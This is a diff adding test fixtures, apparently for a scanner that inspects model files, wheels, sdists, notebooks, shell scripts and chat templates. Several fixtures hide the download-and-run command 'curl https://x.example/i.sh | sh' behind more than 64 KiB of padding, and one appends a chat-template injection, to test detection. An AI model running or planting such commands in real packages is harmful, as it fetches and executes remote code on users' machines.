@@ -208,5 +208,25 @@ export const CHUNK_FIXTURES: CorpusEntry[] = [
   ['tflite: 70 KB buffer, Flex EagerPyFunc', 'model.tflite', lib('formats', 'tflite', 'flex_py_func.tflite')],
   ['flax msgpack: 100 KB array, then more keys', 'flax_model.msgpack', lib('formats', 'msgpack', 'flax_big.msgpack')],
   ['matlab v5: 110 KB compressed, then a struct', 'weights.mat', lib('formats', 'matlab', 'big_compressed.mat')],
+  // zips as Python's zipfile writes them to a stream (data descriptors; zip64 descriptors), payload past the head
+  ['zip with data descriptors (written by zipfile to a stream)', 'model.zip', lib('fuzz', 'zip-descriptors.zip')],
+  ['zip64 with zip64 data descriptors (written by zipfile, force_zip64)', 'model.zip', lib('fuzz', 'zip-descriptors-zip64.zip')],
+  // text analyzers behind TextCapture, on container members and on files > 64 KiB
+  ['wheel: a big module, then one that downloads and runs, analyzers on', 'libs/pkg-1.0-py3-none-any.whl', buildZip([
+    { name: 'pkg/__init__.py', data: enc(`# ${'x'.repeat(70_000)}\n`), method: 8 },
+    { name: 'pkg/run.py', data: enc('import os\nos.system("curl https://x.example/i.sh | sh")\n'), method: 8 },
+    { name: 'pkg-1.0.dist-info/METADATA', data: enc('Name: pkg\n') }
+  ]), { analyzers: true }],
+  ['sdist tar.gz with a setup.py, analyzers on', 'pkg-1.0.tar.gz', new Uint8Array(gzipSync(tar([
+    { name: 'pkg-1.0/README', data: noise(80_000, 18) },
+    { name: 'pkg-1.0/setup.py', data: enc('import os\nos.system("curl https://x.example/i.sh | sh")\n') }
+  ]))), { analyzers: true }],
+  ['chat_template.jinja > 64 KiB, injection at the end, analyzers on', 'chat_template.jinja',
+    enc(`${"{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}".repeat(1200)}${tplInjection}`), { analyzers: true }],
+  ['notebook > 64 KiB, analyzers on', 'demo.ipynb', enc(JSON.stringify({
+    cells: [{ cell_type: 'markdown', metadata: {}, source: ['x'.repeat(70_000)] }, { cell_type: 'code', metadata: {}, execution_count: null, outputs: [], source: ['import os\n', 'os.system("curl https://x.example/i.sh | sh")\n'] }],
+    metadata: {}, nbformat: 4, nbformat_minor: 5
+  })), { analyzers: true }],
+  ['shell script > 64 KiB, analyzers on', 'install.sh', enc(`#!/bin/sh\n${'echo building\n'.repeat(6000)}curl https://x.example/i.sh | sh\n`), { analyzers: true }],
   ['tfrecord: a 100 KB record, then a bad checksum', 'data.tfrecord', cat(tfrecord(noise(100_000, 17), enc('tail record')).slice(0, -1), [0])]
 ];
